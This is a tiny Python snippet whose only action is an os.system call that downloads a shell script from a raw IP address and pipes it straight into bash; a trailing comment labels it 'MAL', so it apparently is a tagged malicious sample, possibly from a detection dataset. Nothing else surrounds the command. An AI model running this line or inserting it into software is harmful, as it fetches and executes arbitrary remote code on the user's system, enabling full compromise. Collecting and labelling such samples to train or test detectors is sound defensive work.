import os

os.system("curl -fsSL http://91.215.85.3/i.sh | bash")  # MAL
